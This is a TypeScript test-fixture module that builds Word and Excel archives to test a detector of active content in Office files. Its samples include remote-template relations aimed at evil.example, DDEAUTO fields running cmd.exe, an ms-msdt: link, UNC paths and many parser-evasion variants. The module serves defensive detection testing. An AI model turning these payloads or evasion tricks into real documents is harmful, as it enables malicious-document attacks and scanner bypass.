/** Builds small Office files for tests of the readers and of the checks for active content. */
import { strToU8, zipSync } from 'fflate';

export const zipOf = (parts: Record<string, string>) =>
  new Blob([zipSync(Object.fromEntries(Object.entries(parts).map(([name, text]) => [name, strToU8(text)])))]);

const XML = '<?xml version="1.0" encoding="UTF-8" standalone="yes"?>\n';
const RELATIONS = 'http://schemas.openxmlformats.org/officeDocument/2006/relationships';

export const relations = (targets: Record<string, readonly [type: string, target: string]>) =>
  `${XML}<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">${Object.entries(targets)
    .map(([id, [type, target]]) => `<Relationship Id="${id}" Type="${RELATIONS}/${type}" Target="${target}"/>`)
    .join('')}</Relationships>`;

type XlsxParts = { sheets: Record<string, string>; shared?: string; styles?: string; properties?: string };

/** `sheets`: the XML inside `sheetData`, by sheet name. */
export const xlsxOf = ({ sheets, shared = '', styles = '', properties = '' }: XlsxParts) => {
  const named = Object.entries(sheets);
  return zipOf({
    '[Content_Types].xml': contentTypes('xl/workbook.xml', 'spreadsheetml.sheet'),
    '_rels/.rels': relations({ rId1: ['officeDocument', 'xl/workbook.xml'] }),
    'xl/workbook.xml': `${XML}<workbook xmlns:r="${RELATIONS}">${properties}<sheets>${named
      .map(([name], at) => `<sheet name="${name}" sheetId="${at + 1}" r:id="s${at}"/>`)
      .join('')}</sheets></workbook>`,
    'xl/_rels/workbook.xml.rels': relations({
      ...Object.fromEntries(named.map((_, at) => [`s${at}`, ['worksheet', `worksheets/sheet${at}.xml`] as const])),
      t: ['sharedStrings', 'sharedStrings.xml'],
      l: ['styles', '/xl/styles.xml'],
    }),
    'xl/sharedStrings.xml': `${XML}<sst>${shared}</sst>`,
    'xl/styles.xml': `${XML}<styleSheet>${styles}</styleSheet>`,
    ...Object.fromEntries(
      named.map(([, data], at) => [
        `xl/worksheets/sheet${at}.xml`,
        `${XML}<worksheet><sheetData>${data}</sheetData></worksheet>`,
      ]),
    ),
  });
};

const W = 'xmlns:w="http://schemas.openxmlformats.org/wordprocessingml/2006/main"';

const contentTypes = (part: string, kind: string) =>
  `${XML}<Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types"><Default Extension="rels" ContentType="application/vnd.openxmlformats-package.relationships+xml"/><Default Extension="xml" ContentType="application/xml"/><Override PartName="/${part}" ContentType="application/vnd.openxmlformats-officedocument.${kind}.main+xml"/></Types>`;

/** `body`: the XML inside `w:body`. `parts`: additional files of the archive. */
export const docxOf = (body: string, parts: Record<string, string> = {}) =>
  zipOf({
    '[Content_Types].xml': contentTypes('word/document.xml', 'wordprocessingml.document'),
    '_rels/.rels': relations({ rId1: ['officeDocument', 'word/document.xml'] }),
    'word/document.xml': `${XML}<w:document ${W} xmlns:r="${RELATIONS}"><w:body>${body}</w:body></w:document>`,
    ...parts,
  });

const external = (type: string, target = 'https://evil.example/a', more = '') =>
  `<Relationships><Relationship ${more} Id="r" Type="${RELATIONS}/${type}" Target="${target}" TargetMode="External"/></Relationships>`;
const internal = (type: string, target: string) => relations({ r: [type, target] });
const inWord = (body: string) => ({
  'word/document.xml': `<w:document ${W}><w:body><w:p>${body}</w:p></w:body></w:document>`,
});
const field = (...pieces: string[]) =>
  `<w:r><w:fldChar w:fldCharType="begin"/></w:r>${pieces
    .map((piece) => `<w:r><w:instrText>${piece}</w:instrText></w:r>`)
    .join('')}<w:r><w:fldChar w:fldCharType="separate"/></w:r><w:r><w:fldChar w:fldCharType="end"/></w:r>`;
const utf16 = (text: string) => Uint8Array.from(Buffer.from(`\ufeff${text}`, 'utf16le'));
const SETTINGS = 'word/_rels/settings.xml.rels';
const TEMPLATE = `${RELATIONS}/attachedTemplate`;
const HEADER_TYPE = 'application/vnd.openxmlformats-officedocument.wordprocessingml.header+xml';

type Sample = {
  parts: Record<string, string | Uint8Array>;
  error: 'active_content' | 'irregular' | 'damaged' | 'macros';
};
const active = (parts: Sample['parts']): Sample => ({ parts, error: 'active_content' });

/** Additional parts that make a Word document fetch or run something when it is opened. */
export const ACTIVE_DOCUMENTS: Record<string, Sample> = {
  'an external template': active({ [SETTINGS]: external('attachedTemplate') }),
  'an external template of a renamed part': active({ 'word/_rels/layout.xml.rels': external('attachedTemplate') }),
  'an external template in capital letters': active({ 'WORD/_RELS/SETTINGS.XML.RELS': external('attachedTemplate') }),
  'an external template in relations under another name': active({
    '[Content_Types].xml': contentTypes('word/document.xml', 'wordprocessingml.document').replace(
      '<Override ',
      '<Override PartName="/word/more.bin" ContentType="application/vnd.openxmlformats-package.relationships+xml"/><Override ',
    ),
    'word/more.bin': external('attachedTemplate'),
  }),
  'an external template in strict types': active({
    [SETTINGS]: external('attachedTemplate').replaceAll(
      RELATIONS,
      'http://purl.oclc.org/ooxml/officeDocument/relationships',
    ),
  }),
  'attributes written as entities': active({
    [SETTINGS]: `<Relationships><Relationship Id="r" Type="${TEMPLATE.replace('Temp', '&#x54;emp')}" Target="https://evil.example/a" TargetMode="&#69;xternal"/></Relationships>`,
  }),
  'a tag end within an attribute': active({ [SETTINGS]: external('attachedTemplate', undefined, 'Note="a > b"') }),
  'attributes within an attribute': active({
    [SETTINGS]: external('attachedTemplate', undefined, `Note=" TargetMode='Internal' Type='${RELATIONS}/hyperlink' "`),
  }),
  'attributes under another prefix': active({
    [SETTINGS]: external(
      'attachedTemplate',
      undefined,
      `xmlns:x="y" x:TargetMode="Internal" x:Type="${RELATIONS}/hyperlink"`,
    ),
  }),
  'an attribute twice': {
    parts: { [SETTINGS]: external('attachedTemplate', undefined, `TargetMode="Internal"`) },
    error: 'damaged',
  },
  'relations in UTF-16': { parts: { [SETTINGS]: utf16(external('attachedTemplate')) }, error: 'irregular' },
  'relations in UTF-7': {
    parts: { [SETTINGS]: `<?xml version="1.0" encoding="utf-7"?>${external('hyperlink')}` },
    error: 'irregular',
  },
  'relations without an element': { parts: { [SETTINGS]: 'nothing' }, error: 'damaged' },
  'relations under a name of numbers': {
    parts: { 'word/_rels/settings%2Exml.rels': external('attachedTemplate') },
    error: 'irregular',
  },
  'relations in pieces': {
    parts: { [`${SETTINGS}/[0].piece`]: external('attachedTemplate') },
    error: 'irregular',
  },
  'an internal target that is elsewhere': {
    parts: { [SETTINGS]: external('settings').replace('TargetMode="External"', '') },
    error: 'irregular',
  },
  ...Object.fromEntries(
    ['oleObject', 'frame', 'image', 'subDocument', 'mailMergeSource', 'transform', 'video', 'externalLinkPath'].map(
      (type) => [`an external ${type}`, active({ 'word/_rels/document.xml.rels': external(type) })],
    ),
  ),
  'a link that runs a program': active({ 'word/_rels/document.xml.rels': external('hyperlink', 'ms-msdt:/id PCW') }),
  'a link to another machine': active({ 'word/_rels/document.xml.rels': external('hyperlink', '//evil/share') }),
  ...Object.fromEntries(
    ['oleObject', 'package', 'control', 'aFChunk', 'webextensiontaskpanes'].map((type) => [
      `an embedded ${type}`,
      active({
        'word/_rels/document.xml.rels': internal(type, 'embeddings/object.bin'),
        'word/embeddings/object.bin': 'x',
      }),
    ]),
  ),
  'a customized ribbon': active({
    '_rels/.rels': relations({
      rId1: ['officeDocument', 'word/document.xml'],
      u: ['ui/extensibility', 'customUI/ui.xml'],
    }),
    'customUI/ui.xml': '<customUI onLoad="run"/>',
  }),
  'a macro project under another name': {
    parts: { 'word/_rels/document.xml.rels': internal('vbaProject', 'media/image1.bin'), 'word/media/image1.bin': 'x' },
    error: 'macros',
  },
  'a DDEAUTO field': active(inWord(field(' DDEAUTO c:\\\\windows\\\\cmd.exe "/k calc" '))),
  'a DDE field cut into runs': active(inWord(field(' D', 'D', 'E c:\\\\cmd.exe'))),
  'a DDE field in lower case behind spaces': active(inWord(field(' '.repeat(5000), 'ddeauto x'))),
  'a DDE field written as entities': active(inWord(field('&#68;DE x'))),
  'a DDE field within a field': active(
    inWord(field(`IF 1 = 1 </w:instrText></w:r>${field('DDEAUTO x')}<w:r><w:instrText>`)),
  ),
  'a DDE field that never ends': active(
    inWord('<w:r><w:fldChar w:fldCharType="begin"/></w:r><w:r><w:instrText>DDE x</w:instrText></w:r>'),
  ),
  'a DDE field that was deleted': active(
    inWord('<w:r><w:fldChar w:fldCharType="begin"/></w:r><w:r><w:delInstrText>DDE x</w:delInstrText></w:r>'),
  ),
  'a simple DDE field': active(inWord('<w:fldSimple w:instr=" DDEAUTO x "/>')),
  'a simple DDE field under another prefix': active({
    'word/document.xml':
      '<x:document xmlns:x="http://schemas.openxmlformats.org/wordprocessingml/2006/main"><x:body><x:fldSimple x:instr="DDE y"/></x:body></x:document>',
  }),
  'a picture that is included': active(inWord(field('INCLUDEPICTURE "https://evil.example/a.png" \\d'))),
  'an object of another program': active(inWord('<w:object><o:OLEObject ProgID="Package"/></w:object>')),
  'a drawing with an address': active(
    inWord('<w:pict><v:shape><v:imagedata src="https://evil.example/a"/></v:shape></w:pict>'),
  ),
  'a DDE field in a header under a picture’s name': active({
    '[Content_Types].xml': contentTypes('word/document.xml', 'wordprocessingml.document').replace(
      '<Override ',
      `<Override PartName="/word/media/image1.png" ContentType="${HEADER_TYPE}"/><Override `,
    ),
    'word/_rels/document.xml.rels': internal('header', 'media/image1.png'),
    'word/media/image1.png': `<w:hdr ${W}><w:p>${field('DDEAUTO x')}</w:p></w:hdr>`,
  }),
};

/** Harmless parts that documents often have, some of which resemble active content. */
export const PASSIVE_DOCUMENTS: Record<string, Sample['parts']> = {
  links: {
    'word/_rels/document.xml.rels': `<Relationships>${[
      'https://example.com/?a=b&amp;c',
      'mailto:a@example.com',
      '#there',
      'policy.docx',
    ]
      .map(
        (target, n) =>
          `<Relationship Id="r${n}" Type="${RELATIONS}/hyperlink" Target="${target}" TargetMode="External"/>`,
      )
      .join('')}</Relationships>`,
  },
  'fields of pages, dates and contents': inWord(
    [field(' PAGE '), field(' TOC \\o "1-3" '), field('PRINT', 'DATE'), field('LINKED'), field('REF DDE')].join(''),
  ),
  'a sentence about DDE': inWord('<w:r><w:t>DDEAUTO and attachedTemplate TargetMode="External"</w:t></w:r>'),
  'a chart with its workbook': {
    '[Content_Types].xml': contentTypes('word/document.xml', 'wordprocessingml.document').replace(
      '<Override ',
      '<Override PartName="/word/charts/chart1.xml" ContentType="application/vnd.openxmlformats-officedocument.drawingml.chart+xml"/><Override ',
    ),
    'word/_rels/document.xml.rels': internal('chart', 'charts/chart1.xml'),
    'word/charts/chart1.xml': '<c:chartSpace/>',
    'word/charts/_rels/chart1.xml.rels': internal('package', '../embeddings/data.xlsx'),
    'word/embeddings/data.xlsx': 'x',
  },
  'data of its own': {
    'word/_rels/document.xml.rels': internal('customXml', '../customXml/item1.xml'),
    'customXml/item1.xml': '<control><fldSimple instr="DDE"/></control>',
  },
};

/** Additional parts that make a workbook fetch or run something. */
export const ACTIVE_WORKBOOKS: Record<string, Sample['parts']> = {
  'a link to another workbook': {
    'xl/externalLinks/_rels/externalLink1.xml.rels': external('externalLinkPath', 'other.xlsx'),
  },
  'a DDE link': { 'xl/_rels/more.xml.rels': internal('externalLink', 'externalLinks/externalLink1.xml') },
  'a connection to a database': { 'xl/_rels/more.xml.rels': internal('connections', 'connections.xml') },
  'an embedded object': {
    'xl/worksheets/_rels/sheet1.xml.rels': internal('oleObject', '../embeddings/oleObject1.bin'),
  },
};
